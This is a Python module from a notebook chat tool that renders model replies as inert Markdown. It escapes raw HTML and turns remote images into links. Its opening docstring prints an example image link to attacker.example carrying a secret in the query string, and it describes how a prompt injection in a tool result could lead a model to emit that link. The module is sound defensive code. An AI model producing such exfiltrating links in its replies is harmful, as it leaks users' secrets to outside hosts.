"""A model's reply as Markdown that cannot make the browser do anything: shown, not obeyed.

A reply is rendered as Markdown, so a model (or a prompt injection in a tool result or a
document it read) could write ``![](https://attacker.example/?q=<secret>)``, and the notebook
front end would fetch that URL the moment the cell renders. By default a remote image becomes a
link the user can choose to follow (``data:`` images stay images: they fetch nothing), and raw
HTML is escaped, so a tag in a reply is shown as text. Code spans and fenced code blocks are
left exactly as written: nothing in them renders anyway. ``remote_images=True`` is the opt-in
(``%config ChatMagics.remote_images = True``, ``%%chat --remote-images``).
"""

from __future__ import annotations

import re

_FENCE = re.compile(r"^\s{0,3}(`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"(`+)(?:(?!\1).)+?\1")
_INLINE_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)")


def inert_markdown(text: str, *, remote_images: bool = False, close_fence: bool = False) -> str:
    """`text` with raw HTML escaped and, unless `remote_images`, remote images made links.
    With `close_fence`, a fence the text leaves open is closed, so Markdown placed after it
    (say, the ``</div>`` that ends a column) is not swallowed into the code block."""
    out: list[str] = []
    fence: str | None = None
    for line in text.split("\n"):
        opened = _FENCE.match(line)
        if fence is not None:  # inside a fenced block: as written, until its closing fence
            if opened and opened.group(1)[0] == fence[0] and len(opened.group(1)) >= len(fence):
                fence = None
            out.append(line)
            continue
        if opened:
            fence = opened.group(1)
            out.append(line)
            continue
        out.append(_inert_line(line, remote_images))
    if close_fence and fence is not None:
        out.append(fence)
    return "\n".join(out)


def _inert_line(line: str, remote_images: bool) -> str:
    """One line outside code blocks: code spans kept, the rest made inert."""
    pieces, last = [], 0
    for span in _CODE_SPAN.finditer(line):
        pieces.append(_inert_text(line[last : span.start()], remote_images))
        pieces.append(span.group(0))
        last = span.end()
    pieces.append(_inert_text(line[last:], remote_images))
    return "".join(pieces)


def _inert_text(text: str, remote_images: bool) -> str:
    # "<" alone starts a tag (or an autolink); escaped, it shows as itself. ">" stays: it
    # quotes a line in Markdown.
    text = text.replace("<", "&lt;")
    if remote_images or "![" not in text:
        return text
    pieces, last = [], 0
    for image in _INLINE_IMAGE.finditer(text):
        pieces.append(_unbang(text[last : image.start()]))
        alt, url = image.group(1), image.group(2)
        if url.lower().startswith("data:image/"):
            pieces.append(image.group(0))  # an inline image fetches nothing
        else:
            pieces.append(f"[image: {alt or url}]({url})")
        last = image.end()
    pieces.append(_unbang(text[last:]))
    return "".join(pieces)


def _unbang(text: str) -> str:
    """Reference-style images (``![alt][ref]``, ``![ref]``) as links: without the "!"."""
    return text.replace("![", "[image: ")
